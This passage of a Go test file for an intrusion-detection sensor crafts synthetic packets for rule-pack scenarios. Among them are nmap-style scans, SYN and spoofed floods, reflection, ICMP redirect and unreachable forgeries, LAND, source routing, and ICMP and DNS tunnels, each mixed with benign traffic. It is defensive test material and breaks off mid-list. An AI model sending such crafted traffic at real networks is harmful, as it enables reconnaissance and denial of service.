package netsensor

// The gateway rule pack's scenarios are made here: packets are crafted,
// run through the real decoder and sensor, and the records compared with
// (or, with -update-scenarios, written to) rules/scenarios/gateway.

import (
	"encoding/binary"
	"flag"
	"fmt"
	"math"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"sort"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"

	"github.com/vigil-ids/vigil/internal/event"
	"github.com/vigil-ids/vigil/internal/netspec"
)

var genBase = time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)

type G struct {
	t      *testing.T
	s      *Sensor
	dec    *Decoder
	recs   []event.Event
	last   float64
	noSumm bool
	pend   []pk
}

func newG(t *testing.T) *G {
	var ss []netspec.Service
	for _, x := range []string{"10.0.0.3:80/tcp", "10.0.0.3:443/tcp", "10.0.0.3:22/tcp", "10.0.0.4:21/tcp", "10.0.0.5:25/tcp", "10.0.0.6:80/tcp", "10.0.0.6:443/tcp", "*:53/udp"} {
		s, err := netspec.ParseService(x)
		if err != nil {
			t.Fatal(err)
		}
		ss = append(ss, s)
	}
	g := &G{t: t}
	cfg := Config{ID: "gw-1", Services: ss, Internal: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}, RecordBudget: 50}
	g.s = New(cfg, event.NewSeededIDs(1), func(ev event.Event) {
		if err := ev.Validate(); err != nil {
			t.Errorf("invalid record %s: %v", ev.AppendJSON(nil), err)
		}
		g.recs = append(g.recs, ev)
	}, nil)
	g.dec, _ = NewDecoder(layers.LinkTypeEthernet)
	return g
}

func ts(sec float64) time.Time {
	return genBase.Add(time.Duration(math.Round(sec*1e6)) * time.Microsecond)
}

type pk struct {
	t float64
	n int
	f []byte
}

// at schedules frames at base+sec; end processes them in time order.
func (g *G) at(sec float64, frames ...[]byte) {
	for _, f := range frames {
		g.pend = append(g.pend, pk{sec, len(g.pend), f})
	}
}

func (g *G) run() {
	sort.SliceStable(g.pend, func(i, j int) bool { return g.pend[i].t < g.pend[j].t })
	var p Packet
	clock := 0.0
	for _, x := range g.pend {
		// A live sensor's clock moves on while no packet comes (the ring's
		// timeouts): attempts expire on time.
		for clock+0.1 < x.t {
			clock += 0.1
			g.s.Advance(ts(clock))
		}
		if err := g.dec.Decode(x.f, ts(x.t), len(x.f), &p); err != nil {
			g.t.Fatalf("decoding a crafted frame: %v", err)
		}
		g.s.Process(&p)
		g.last = x.t
	}
}

// end lets time pass (flows expire, intervals close) and writes the
// records.
func (g *G) end(name, prefix string) {
	g.run()
	for c := g.last; c < g.last+12; c += 0.1 {
		g.s.Advance(ts(c))
	}
	g.s.Flush()
	var b []byte
	for i := range g.recs {
		ev := g.recs[i]
		ev.ID = fmt.Sprintf("%s%02d", prefix, i+1)
		b = append(ev.AppendJSON(b), '\n')
	}
	file := filepath.Join("..", "..", "..", "rules", "scenarios", "gateway", name, "events.jsonl")
	if *updateScenarios {
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			g.t.Fatal(err)
		}
		if err := os.WriteFile(file, b, 0o644); err != nil {
			g.t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		g.t.Fatalf("%v (run with -update-scenarios)", err)
	}
	if string(want) != string(b) {
		g.t.Errorf("the sensor's records for %s differ from %s: the rule scenario no longer shows what the sensor emits (if the change is intended, run go test -run TestRuleScenarioRecords -update-scenarios, then check the rule scenarios)", name, file)
	}
}

// ---- Packets ----------------------------------------------------------

func tcpP(src string, sport uint16, dst string, dport uint16, flags string, payload string, opts ...layers.IPv4Option) []byte {
	t := &layers.TCP{SrcPort: layers.TCPPort(sport), DstPort: layers.TCPPort(dport), Window: 64240, Seq: 1000}
	setFlags(t, flags)
	ip := ip4(src, dst, layers.IPProtocolTCP)
	ip.Options = opts
	return gframe(eth(), ip, t, gopacket.Payload(payload))
}

func udpP(src string, sport uint16, dst string, dport uint16, payload []byte) []byte {
	u := &layers.UDP{SrcPort: layers.UDPPort(sport), DstPort: layers.UDPPort(dport)}
	return gframe(eth(), ip4(src, dst, layers.IPProtocolUDP), u, gopacket.Payload(payload))
}

func icmpP(src, dst string, typ, code uint8, id, seq uint16, payload []byte, opts ...layers.IPv4Option) []byte {
	ic := &layers.ICMPv4{TypeCode: layers.CreateICMPv4TypeCode(typ, code), Id: id, Seq: seq}
	ip := ip4(src, dst, layers.IPProtocolICMPv4)
	ip.Options = opts
	return gframe(eth(), ip, ic, gopacket.Payload(payload))
}

// icmpErr is an ICMP error from src to dst quoting the IP header and 8
// bytes of the frame quoted.
func icmpErr(src, dst string, typ, code uint8, rest uint32, quoted []byte) []byte {
	ic := &layers.ICMPv4{TypeCode: layers.CreateICMPv4TypeCode(typ, code), Id: uint16(rest >> 16), Seq: uint16(rest)}
	return gframe(eth(), ip4(src, dst, layers.IPProtocolICMPv4), ic, gopacket.Payload(quoted[14:min(len(quoted), 14+28)]))
}

func rawP(src, dst string, proto uint8, payload []byte) []byte {
	return gframe(eth(), ip4(src, dst, layers.IPProtocol(proto)), gopacket.Payload(payload))
}

func addr4(s string) uint32 { return binary.BigEndian.Uint32(net.ParseIP(s).To4()) }

func fill(n int, c byte) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = c
	}
	return b
}

func dnsMsg(id uint16, name string, qt layers.DNSType, resp bool, rcode layers.DNSResponseCode, answers []layers.DNSResourceRecord) []byte {
	d := &layers.DNS{ID: id, QR: resp, RD: true, RA: resp, ResponseCode: rcode,
		Questions: []layers.DNSQuestion{{Name: []byte(name), Type: qt, Class: layers.DNSClassIN}}, Answers: answers}
	buf := gopacket.NewSerializeBuffer()
	if err := d.SerializeTo(buf, gopacket.SerializeOptions{FixLengths: true}); err != nil {
		panic(err)
	}
	return append([]byte(nil), buf.Bytes()...)
}

// ---- TCP sessions -----------------------------------------------------

type conn struct {
	g      *G
	c, s   string
	cp, sp uint16
}

func (g *G) tcp(c string, cp uint16, s string, sp uint16) *conn {
	return &conn{g: g, c: c, cp: cp, s: s, sp: sp}
}

func (k *conn) cl(t float64, flags, payload string) {
	k.g.at(t, tcpP(k.c, k.cp, k.s, k.sp, flags, payload))
}
func (k *conn) sv(t float64, flags, payload string) {
	k.g.at(t, tcpP(k.s, k.sp, k.c, k.cp, flags, payload))
}

// open: SYN, SYN-ACK, ACK, rtt apart. Returns the time of the ACK.
func (k *conn) open(t, rtt float64) float64 {
	k.cl(t, "S", "")
	k.sv(t+rtt, "SA", "")
	k.cl(t+2*rtt, "A", "")
	return t + 2*rtt
}

func (k *conn) refused(t, rtt float64) {
	k.cl(t, "S", "")
	k.sv(t+rtt, "RA", "")
}

// close: client FIN, server FIN, client ACK.
func (k *conn) close(t, rtt float64) float64 {
	k.cl(t, "FA", "")
	k.sv(t+rtt, "FA", "")
	k.cl(t+2*rtt, "A", "")
	return t + 2*rtt
}

// http makes one request on an open connection, answered after rtt.
func (k *conn) http(t, rtt float64, method, path, host string, status int, reason string) float64 {
	k.cl(t, "PA", fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: */*\r\n\r\n", method, path, host))
	k.sv(t+rtt, "PA", fmt.Sprintf("HTTP/1.1 %d %s\r\nServer: Apache/2.4.62 (Debian)\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Length: 512\r\n\r\n", status, reason))
	return t + rtt
}

// httpOnce: a whole connection with one request.
func (g *G) httpOnce(t float64, c string, cp uint16, s string, sp uint16, method, path, host string, status int, reason string) float64 {
	k := g.tcp(c, cp, s, sp)
	t = k.open(t, 0.01)
	t = k.http(t+0.001, 0.02, method, path, host, status, reason)
	return k.close(t+0.05, 0.01)
}

// cmds: client command lines, each answered by a reply line after rtt.
func (k *conn) cmds(t, gap float64, pairs ...string) float64 {
	for i := 0; i+1 < len(pairs); i += 2 {
		k.cl(t, "PA", pairs[i]+"\r\n")
		k.sv(t+0.02, "PA", pairs[i+1]+"\r\n")
		t += gap
	}
	return t
}

// ---- Scenarios --------------------------------------------------------

var updateScenarios = flag.Bool("update-scenarios", false, "rewrite the events of the gateway rule pack's scenarios")

// TestRuleScenarioRecords makes the events of the gateway rule pack's
// scenarios (rules/scenarios/gateway/*/events.jsonl) by running crafted
// packets through the real decoder and sensor, and checks that the
// committed files are exactly what the sensor emits today.
func TestRuleScenarioRecords(t *testing.T) {
	for name, f := range scenarios {
		t.Run(name, func(t *testing.T) {
			g := newG(t)
			f(g)
		})
	}
}

var scenarios = map[string]func(g *G){
	"tcp-port-scan": func(g *G) {
		// A visitor, and a refused connection it retries (one port).
		k := g.tcp("198.51.100.23", 51000, "10.0.0.3", 443)
		k.open(0.5, 0.02)
		k.close(1.0, 0.02)
		g.tcp("198.51.100.23", 51002, "10.0.0.3", 8080).refused(1.2, 0.02)
		g.tcp("198.51.100.23", 51003, "10.0.0.3", 8080).refused(1.5, 0.02)
		// nmap -sS: open 22 and 443, filtered 135 139 445, the rest closed.
		ports := []uint16{21, 22, 23, 25, 53, 110, 135, 139, 443, 445, 993, 995, 1433, 1521, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 11211, 27017}
		tt := 2.0
		for _, p := range ports {
			k := g.tcp("203.0.113.45", 61001, "10.0.0.3", p)
			switch p {
			case 22, 443:
				k.cl(tt, "S", "")
				k.sv(tt+0.002, "SA", "")
				k.cl(tt+0.003, "R", "")
			case 135, 139, 445:
				k.cl(tt, "S", "")
			default:
				k.refused(tt, 0.002)
			}
			tt += 0.05
		}
		// nmap retransmits to the filtered ports.
		for _, p := range []uint16{135, 139, 445} {
			g.tcp("203.0.113.45", 61001, "10.0.0.3", p).cl(tt+1.0, "S", "")
			tt += 0.01
		}
		g.end("tcp-port-scan", "tps-")
	},

	"udp-port-scan": func(g *G) {
		// A normal query and the last hop of a traceroute (3 probes refused).
		g.at(0.3, udpP("198.51.100.77", 40001, "10.0.0.2", 53, dnsMsg(0x1a2b, "www.example.org", layers.DNSTypeA, false, 0, nil)))
		g.at(0.301, udpP("10.0.0.2", 53, "198.51.100.77", 40001, dnsMsg(0x1a2b, "www.example.org", layers.DNSTypeA, true, 0, []layers.DNSResourceRecord{{Name: []byte("www.example.org"), Type: layers.DNSTypeA, Class: layers.DNSClassIN, TTL: 300, IP: net.ParseIP("192.0.2.80")}})))
		tt := 1.0
		for i := 0; i < 3; i++ {
			q := udpP("198.51.100.77", 44001+uint16(i), "10.0.0.2", 33434+uint16(i), fill(32, 0x40+byte(i)))
			g.at(tt, q)
			g.at(tt+0.001, icmpErr("10.0.0.2", "198.51.100.77", 3, 3, 0, q))
			tt += 0.02
		}
		// nmap -sU from 203.0.113.77: 53 answers, the rest are closed.
		q := udpP("203.0.113.77", 52001, "10.0.0.2", 53, dnsMsg(0x0000, "version.bind", layers.DNSTypeTXT, false, 0, nil))
		tt = 3.0
		g.at(tt, q)
		g.at(tt+0.001, udpP("10.0.0.2", 53, "203.0.113.77", 52001, dnsMsg(0x0000, "version.bind", layers.DNSTypeTXT, true, layers.DNSResponseCodeRefused, nil)))
		tt += 0.6
		for _, p := range []uint16{67, 68, 123, 137, 138, 161, 162, 500, 520, 1900} {
			q := udpP("203.0.113.77", 52001, "10.0.0.2", p, nil)
			g.at(tt, q)
			g.at(tt+0.001, icmpErr("10.0.0.2", "203.0.113.77", 3, 3, 0, q))
			tt += 0.6
		}
		g.end("udp-port-scan", "ups-")
	},

	"stealth-scan": func(g *G) {
		// FIN probes to 4 ports from 203.0.113.90: below 5.
		tt := 0.5
		for _, p := range []uint16{22, 80, 443, 8080} {
			k := g.tcp("203.0.113.90", 48100, "10.0.0.3", p)
			k.cl(tt, "F", "")
			if p == 8080 {
				k.sv(tt+0.002, "RA", "")
			}
			tt += 0.1
		}
		// nmap -sF from 198.51.100.66: 4 closed (RST), 80 and 443 open (silent).
		tt = 2.0
		for _, p := range []uint16{22, 25, 80, 110, 443, 3306} {
			k := g.tcp("198.51.100.66", 37211, "10.0.0.6", p)
			k.cl(tt, "F", "")
			if p != 80 && p != 443 {
				k.sv(tt+0.002, "RA", "")
			}
			tt += 0.05
		}
		for _, p := range []uint16{80, 443} {
			g.tcp("198.51.100.66", 37211, "10.0.0.6", p).cl(tt+1.0, "F", "")
			tt += 0.01
		}
		g.end("stealth-scan", "sts-")
	},

	"stealth-probe": func(g *G) {
		// A lone FIN from elsewhere: not one of the flag sets.
		k := g.tcp("198.51.100.5", 50400, "10.0.0.3", 443)
		k.cl(0.2, "F", "")
		k.sv(0.21, "RA", "")
		// nmap -O against 10.0.0.3 from 203.0.113.200 (22 open, 31337 closed).
		s := "203.0.113.200"
		// Port scan part: 22 open.
		o := g.tcp(s, 45001, "10.0.0.3", 22)
		o.cl(1.0, "S", "")
		o.sv(1.001, "SA", "")
		o.cl(1.002, "R", "")
		// T2: NULL to the open port; T3: SYN+FIN+PSH+URG to it; T5: SYN to
		// the closed port; T7: FIN+PSH+URG to the closed port.
		g.tcp(s, 45012, "10.0.0.3", 22).cl(1.2, "", "")
		g.tcp(s, 45013, "10.0.0.3", 22).cl(1.3, "SFPU", "")
		g.tcp(s, 45015, "10.0.0.3", 31337).refused(1.5, 0.001)
		c := g.tcp(s, 45017, "10.0.0.3", 31337)
		c.cl(1.7, "FPU", "")
		c.sv(1.701, "RA", "")
		// IE: two echo requests; U1: UDP to the closed port.
		g.at(1.8, icmpP(s, "10.0.0.3", 8, 9, 0x2a01, 295, fill(120, 0)))
		g.at(1.801, icmpP("10.0.0.3", s, 0, 0, 0x2a01, 295, fill(120, 0)))
		g.at(1.9, icmpP(s, "10.0.0.3", 8, 0, 0x2a02, 296, fill(150, 0)))
		g.at(1.901, icmpP("10.0.0.3", s, 0, 0, 0x2a02, 296, fill(150, 0)))
		u := udpP(s, 45020, "10.0.0.3", 40125, fill(300, 'C'))
		g.at(2.0, u)
		g.at(2.001, icmpErr("10.0.0.3", s, 3, 3, 0, u))
		g.end("stealth-probe", "stp-")
	},

	"syn-flood": func(g *G) {
		// Visitors of the web server.
		for i, at := range []float64{1.0, 4.5, 11.0, 15.5} {
			k := g.tcp(fmt.Sprintf("198.51.100.%d", 30+i), uint16(52000+i), "10.0.0.3", 443)
			k.open(at, 0.02)
			k.close(at+0.3, 0.02)
		}
		// hping3 -S --flood -p 80 from one host: 1000 SYNs a second for 8 s,
		// unanswered (the server's backlog is full).
		for n := 0; n < 8000; n++ {
			g.at(6.0+float64(n)*0.001, tcpP("203.0.113.99", uint16(1024+n%60000), "10.0.0.3", 80, "S", ""))
		}
		g.end("syn-flood", "syf-")
	},

	"spoofed-flood": func(g *G) {
		// Background: single SYNs from Internet scanners, each to one host.
		for i := 0; i < 25; i++ {
			dst := fmt.Sprintf("10.0.0.%d", 3+i%4)
			g.at(0.3+float64(i)*0.35, tcpP(fmt.Sprintf("192.0.2.%d", 10+i), 54321, dst, []uint16{23, 2323, 8088, 5555, 37215}[i%5], "S", ""))
		}
		// A spoofed SYN flood against 10.0.0.6:80 at 40 packets a second,
		// each from another address; the server answers none.
		var srcs []string
		for _, net := range []string{"198.51.100", "203.0.113", "192.0.2"} {
			for h := 1; h <= 254; h++ {
				if net == "192.0.2" && h >= 10 && h < 35 {
					continue
				}
				srcs = append(srcs, fmt.Sprintf("%s.%d", net, h))
			}
		}
		for i := 0; i < 320; i++ {
			g.at(12.0+float64(i)*0.025, tcpP(srcs[(i*7)%len(srcs)], uint16(1024+i*97%60000), "10.0.0.6", 80, "S", ""))
		}
		g.end("spoofed-flood", "spf-")
	},

	"synack-reflection": func(g *G) {
		// Visitors, in both intervals.
		for i, at := range []float64{0.4, 2.0, 3.1, 5.2, 7.7, 10.3, 11.0, 12.2, 13.4, 14.0, 15.1, 16.3, 17.5, 18.2, 19.0} {
			k := g.tcp(fmt.Sprintf("198.51.100.%d", 30+i), uint16(52000+i), "10.0.0.3", 443)
			k.open(at, 0.02)
			k.close(at+0.2, 0.02)
		}
		// 30 reflectors answer SYNs that carried 10.0.0.3's address with
		// SYN-ACKs (and retransmissions); 10.0.0.3 resets each.
		var refl []string
		for i := 0; i < 30; i++ {
			refl = append(refl, fmt.Sprintf("203.0.113.%d", 101+i))
		}
		for n := 0; n < 3105; n++ {
			tt := 8.5 + float64(n)/270
			r := refl[n%30]
			sp := []uint16{80, 443}[n%2]
			cp := uint16(20000 + n%40000)
			g.at(tt, tcpP(r, sp, "10.0.0.3", cp, "SA", ""))
			g.at(tt+0.0005, tcpP("10.0.0.3", cp, r, sp, "R", ""))
		}
		g.end("synack-reflection", "sar-")
	},

	"ping-sweep": func(g *G) {
		// A monitoring service pings two public hosts.
		for i, h := range []string{"10.0.0.3", "10.0.0.6"} {
			g.at(0.5+float64(i)*0.1, icmpP("198.51.100.10", h, 8, 0, 0x0301, 1, fill(56, 0x41)))
			g.at(0.5+float64(i)*0.1+0.001, icmpP(h, "198.51.100.10", 0, 0, 0x0301, 1, fill(56, 0x41)))
		}
		// fping -g 10.0.0.1 10.0.0.12 from 203.0.113.31; .7 .8 .11 .12 do not answer.
		for i := 1; i <= 12; i++ {
			h := fmt.Sprintf("10.0.0.%d", i)
			tt := 2.0 + float64(i)*0.025
			g.at(tt, icmpP("203.0.113.31", h, 8, 0, 0x5f21, uint16(i), fill(56, 0)))
			if i != 7 && i != 8 && i != 11 && i != 12 {
				g.at(tt+0.0007, icmpP(h, "203.0.113.31", 0, 0, 0x5f21, uint16(i), fill(56, 0)))
			}
		}
		g.end("ping-sweep", "pgs-")
	},

	"ping-flood": func(g *G) {
		// A monitoring service's ping.
		g.at(0.5, icmpP("198.51.100.10", "10.0.0.3", 8, 0, 0x0301, 9, fill(56, 0x41)))
		g.at(0.501, icmpP("10.0.0.3", "198.51.100.10", 0, 0, 0x0301, 9, fill(56, 0x41)))
		// 25 hosts send echo requests as fast as they can at 10.0.0.3, which
		// answers one in fifty (its firewall's limit).
		for n := 0; n < 5760; n++ {
			tt := 8.0 + float64(n)/480
			bot := fmt.Sprintf("198.51.100.%d", 141+n%25)
			g.at(tt, icmpP(bot, "10.0.0.3", 8, 0, uint16(0x7000+n%25), uint16(n/25), fill(56, 0)))
			if n%50 == 0 {
				g.at(tt+0.0003, icmpP("10.0.0.3", bot, 0, 0, uint16(0x7000+n%25), uint16(n/25), fill(56, 0)))
			}
		}
		g.end("ping-flood", "pgf-")
	},

	"icmp-os-fingerprint": func(g *G) {
		// A monitoring service's ping.
		g.at(0.5, icmpP("198.51.100.10", "10.0.0.3", 8, 0, 0x0301, 7, fill(56, 0x41)))
		g.at(0.501, icmpP("10.0.0.3", "198.51.100.10", 0, 0, 0x0301, 7, fill(56, 0x41)))
		// nmap -sn -PE -PP -PM 10.0.0.3 from 203.0.113.14: echo, timestamp
		// and address mask requests (this one unanswered), SYN to 443, ACK to 80.
		s := "203.0.113.14"
		g.at(2.0, icmpP(s, "10.0.0.3", 8, 0, 0x1c01, 0, nil))
		g.at(2.001, icmpP("10.0.0.3", s, 0, 0, 0x1c01, 0, nil))
		k := g.tcp(s, 60211, "10.0.0.3", 443)
		k.cl(2.002, "S", "")
		k.sv(2.003, "SA", "")
		k.cl(2.004, "R", "")
		a := g.tcp(s, 60211, "10.0.0.3", 80)
		a.cl(2.005, "A", "")
		a.sv(2.006, "R", "")
		g.at(2.007, icmpP(s, "10.0.0.3", 13, 0, 0x1c02, 0, fill(12, 0)))
		g.at(2.008, icmpP("10.0.0.3", s, 14, 0, 0x1c02, 0, fill(12, 1)))
		g.at(2.2, icmpP(s, "10.0.0.3", 17, 0, 0x1c03, 0, fill(4, 0)))
		g.end("icmp-os-fingerprint", "iof-")
	},

	"satan-probe": func(g *G) {
		// A user of the FTP and web servers: two of the ports.
		u := g.tcp("198.51.100.61", 50200, "10.0.0.4", 21)
		u.open(0.3, 0.02)
		u.sv(0.35, "PA", "220 (vsFTPd 3.0.3)\r\n")
		u.cmds(0.5, 0.1, "QUIT", "221 Goodbye.")
		u.close(0.7, 0.02)
		g.tcp("198.51.100.61", 50201, "10.0.0.4", 80).refused(0.8, 0.02)
		// SATAN's light scan of 10.0.0.4 from 203.0.113.66.
		s := "203.0.113.66"
		tt := 2.0
		for i, p := range []uint16{21, 23, 25, 79, 80, 111, 512, 513, 514, 6000} {
			k := g.tcp(s, uint16(1020-i), "10.0.0.4", p)
			switch p {
			case 21:
				k.open(tt, 0.002)
				k.sv(tt+0.01, "PA", "220 (vsFTPd 3.0.3)\r\n")
				k.cmds(tt+0.05, 0.05, "QUIT", "221 Goodbye.")
				k.close(tt+0.1, 0.002)
			case 111:
				k.cl(tt, "S", "")
			default:
				k.refused(tt, 0.002)
			}
			tt += 0.2
		}
		g.end("satan-probe", "sat-")
	},

	"icmp-redirect": func(g *G) {
		// An internal host's traceroute: time exceeded from a router about
		// its own probe.
		q := udpP("10.0.0.42", 40000, "203.0.113.50", 33434, fill(32, 0x40))
		g.at(0.5, q)
		g.at(0.52, icmpErr("198.51.100.1", "10.0.0.42", 11, 0, 0, q))
		// A forged redirect: "send traffic for 198.51.100.20 via 203.0.113.66",
		// quoting a segment 10.0.0.3 might have sent.
		inner := tcpP("10.0.0.3", 443, "198.51.100.20", 51234, "PA", "")
		g.at(2.0, icmpErr("203.0.113.1", "10.0.0.3", 5, 1, addr4("203.0.113.66"), inner))
		g.end("icmp-redirect", "ird-")
	},

	"unsolicited-unreachable": func(g *G) {
		// A real unreachable: an internal host's SIP packet to a network a
		// router cannot reach.
		q := udpP("10.0.0.42", 5060, "203.0.113.50", 5060, []byte("OPTIONS sip:203.0.113.50 SIP/2.0\r\n\r\n"))
		g.at(0.5, q)
		g.at(0.55, icmpErr("198.51.100.1", "10.0.0.42", 3, 0, 0, q))
		// Forged host-unreachables to 10.0.0.3 about HTTPS connections it
		// does not have, one every 3 s.
		for i := 0; i < 10; i++ {
			inner := tcpP("10.0.0.3", 443, fmt.Sprintf("198.51.100.%d", 120+i), uint16(49152+i*331), "A", "")
			g.at(2.0+float64(i)*3, icmpErr("203.0.113.254", "10.0.0.3", 3, 1, 0, inner))
		}
		g.end("unsolicited-unreachable", "unu-")
	},

	"martian-source": func(g *G) {
		// A visitor from an ordinary address (100.64.0.0/10 is not a martian).
		k := g.tcp("198.51.100.23", 51000, "10.0.0.3", 443)
		k.open(0.5, 0.02)
		k.close(0.9, 0.02)
		// A host without an address asks for one: DHCP discovery from
		// 0.0.0.0 to the broadcast address is not spoofing.
		g.at(1.2, udpP("0.0.0.0", 68, "255.255.255.255", 67, fill(300, 0)))
		// Spoofed packets with impossible sources.
		g.at(2.0, tcpP("127.0.0.1", 4444, "10.0.0.3", 80, "S", ""))
		g.at(3.0, icmpP("240.1.2.3", "10.0.0.4", 8, 0, 0x0101, 1, fill(56, 0)))
		g.at(4.0, udpP("0.0.0.0", 68, "10.0.0.5", 53, dnsMsg(0x4242, "example.com", layers.DNSTypeA, false, 0, nil)))
		// Ten minutes later, another.
		g.at(700.0, tcpP("127.0.0.1", 4445, "10.0.0.6", 80, "S", ""))
		g.end("martian-source", "mar-")
	},

	"land": func(g *G) {
		// A visitor.
		k := g.tcp("198.51.100.23", 51000, "10.0.0.3", 80)
		k.open(0.5, 0.02)
		k.http(0.6, 0.02, "GET", "/", "www.example.net", 200, "OK")
		k.close(0.9, 0.02)
		// LAND: a SYN from 10.0.0.3:139 to 10.0.0.3:139, from outside.
		g.at(2.0, tcpP("10.0.0.3", 139, "10.0.0.3", 139, "S", ""))
		g.end("land", "lnd-")
	},

	"source-route": func(g *G) {
		rr := layers.IPv4Option{OptionType: 7, OptionLength: 39, OptionData: append([]byte{4}, fill(36, 0)...)}
		// ping -R (record route) from a monitoring service: not source routing.
		g.at(0.5, icmpP("198.51.100.10", "10.0.0.3", 8, 0, 0x0401, 1, fill(56, 0x41), rr, layers.IPv4Option{OptionType: 0, OptionLength: 1}))
		g.at(0.501, icmpP("10.0.0.3", "198.51.100.10", 0, 0, 0x0401, 1, fill(56, 0x41), rr, layers.IPv4Option{OptionType: 0, OptionLength: 1}))
		// A SYN to telnet, loose-source-routed through 203.0.113.1.
		lsrr := layers.IPv4Option{OptionType: 131, OptionLength: 7, OptionData: []byte{4, 203, 0, 113, 1}}
		k := tcpP("203.0.113.8", 1023, "10.0.0.3", 23, "S", "", lsrr, layers.IPv4Option{OptionType: 0, OptionLength: 1})
		g.at(2.0, k)
		g.at(2.001, tcpP("10.0.0.3", 23, "203.0.113.8", 1023, "RA", ""))
		g.end("source-route", "srr-")
	},

	"ip-tunnel": func(g *G) {
		// The site's IPsec VPN with a partner: ESP, not a tunnel the rule
		// names.
		g.at(0.5, rawP("10.0.0.1", "198.51.100.40", 50, append([]byte{0, 0, 0x10, 0x01, 0, 0, 0, 1}, fill(120, 0x5a)...)))
		g.at(0.53, rawP("198.51.100.40", "10.0.0.1", 50, append([]byte{0, 0, 0x20, 0x02, 0, 0, 0, 1}, fill(120, 0x5b)...)))
		// A GRE tunnel from 10.0.0.42 to 203.0.113.77 carrying IPv4.
		innerOut := tcpP("172.16.99.2", 40000, "172.16.99.1", 22, "S", "")[14:]
		innerIn := tcpP("172.16.99.1", 22, "172.16.99.2", 40000, "SA", "")[14:]
		g.at(2.0, rawP("10.0.0.42", "203.0.113.77", 47, append([]byte{0, 0, 0x08, 0x00}, innerOut...)))
		g.at(2.04, rawP("203.0.113.77", "10.0.0.42", 47, append([]byte{0, 0, 0x08, 0x00}, innerIn...)))
		g.at(2.05, rawP("10.0.0.42", "203.0.113.77", 47, append([]byte{0, 0, 0x08, 0x00}, innerOut...)))
		// IP in IP from 10.0.0.51 to 192.0.2.90, the same inner packet.
		g.at(3.0, rawP("10.0.0.51", "192.0.2.90", 4, innerOut))
		g.at(3.02, rawP("192.0.2.90", "10.0.0.51", 4, innerIn))
		g.end("ip-tunnel", "ipt-")
	},

	"icmp-tunnel": func(g *G) {
		// ping -s 1472 to check the path MTU, four times.
		for i := 0; i < 4; i++ {
			tt := 0.5 + float64(i)
			g.at(tt, icmpP("10.0.0.43", "198.51.100.1", 8, 0, 0x0a01, uint16(i+1), fill(1472, 0x61)))
			g.at(tt+0.01, icmpP("198.51.100.1", "10.0.0.43", 0, 0, 0x0a01, uint16(i+1), fill(1472, 0x61)))
		}
		// An ICMP tunnel from 10.0.0.42: echo requests carrying 1000 bytes,
		// twice a second, acknowledged by small replies.
		for i := 0; i < 22; i++ {
			tt := 5.0 + float64(i)*0.5
			g.at(tt, icmpP("10.0.0.42", "198.51.100.200", 8, 0, 0xbeef, uint16(i+1), fill(1000, byte(i))))
			g.at(tt+0.03, icmpP("198.51.100.200", "10.0.0.42", 0, 0, 0xbeef, uint16(i+1), fill(32, 0)))
		}
		g.end("icmp-tunnel", "ict-")
	},

	"dns-tunnel": func(g *G) {
		// Normal lookups, and reputation lookups with 40-hex-digit labels
		// (five of them: below the count).
		for i, n := range []string{"www.example.com", "mail.example.org", "cdn.example.net"} {
			g.at(0.3+float64(i)*0.2, udpP("10.0.0.43", uint16(33000+i), "198.51.100.53", 53, dnsMsg(uint16(100+i), n, layers.DNSTypeA, false, 0, nil)))
			g.at(0.31+float64(i)*0.2, udpP("198.51.100.53", 53, "10.0.0.43", uint16(33000+i), dnsMsg(uint16(100+i), n, layers.DNSTypeA, true, 0, []layers.DNSResourceRecord{{Name: []byte(n), Type: layers.DNSTypeA, Class: layers.DNSClassIN, TTL: 300, IP: net.ParseIP("192.0.2.80")}})))
		}
		hashes := []string{"3f786850e387550fdab836ed7e6dc881de23001b", "89e6c98d92887913cadf06b2adb97f26cde4849b", "2b66fd261ee5c6cfc8de7fa466bab600bcfe4f69", "1c4b2b24d2a0d5a5c8b5e44f5f2f2c4e33a5d3f1", "a9993e364706816aba3e25717850c26c9cd0d89d"}
		for i, h := range hashes {
			n := h + ".sha1.rep.example.net"
			tt := 1.5 + float64(i)*0.4
			g.at(tt, udpP("10.0.0.43", uint16(33100+i), "198.51.100.53", 53, dnsMsg(uint16(200+i), n, layers.DNSTypeA, false, 0, nil)))
			g.at(tt+0.02, udpP("198.51.100.53", 53, "10.0.0.43", uint16(33100+i), dnsMsg(uint16(200+i), n, layers.DNSTypeA, true, layers.DNSResponseCodeNXDomain, nil)))
		}
		// iodine-style tunnel from 10.0.0.42: base32 labels, TXT answers.
		chunks := []string{
			"nbswy3dpeb3w64tmmqqhi2ljomqgc3ruojsxg5dbon2gk4tfmv", "mzxw6ytboi2gk3tbnvswy3dpebqxg43uon2gs3tfmvzs4ylfn", "gezdgnbvgy3tqojqgezdgnbvgy3tqojqgezdgnbvgy3tqojqge",
			"orugs4zanfzsa5dpebrgkidfpbthe5lmorqxizlemvzg2zlon4", "mfzwizdgmfzwizdgmfzwizdgmfzwizdgmfzwizdgmfzwizdgmf", "kruguzjanfzsa5dpebrgkidtmvzxg2lpnyqgk6dgnfwhi4tbor",
			"ojsxk4zanbqxg3dpmvxgizlenvzxi5dbnrqwg2dfmuqgc3tenb", "m5ugk4tfebqxg43fojzsazlmmvzxgidhn5xxeyldmvqxizlbom", "obuw4zzanbqxgzlsorsxeidpmzxgc3dbnruwg2ltmvzsa2ltmu",
			"nfxgizlfmqqgc3tenbsxeidfmrrwk4tjnrsw4zlsebxxe5dbnr", "ozsxezlqojswm5lmmqqgs43jomqgc3tenvqw4ylhmvwwk3tuea", "mfqwkzdfmvzsa5dpebzwc3lqnrssa5dfpb2cazlsfzqxizlonr",
			"gm2tmnzyhe4tamjsgm2tmnzyhe4tamjsgm2tmnzyhe4tamjsgm", "onzxgzjanbqxgzlsebsxi3lmmvzxg2lonrsxe5dbnfwhezlson", "mvxgizlsebxgk5dxn5zgwzlsebqxg3dbnzsgk4tbnrsw4zlsea",
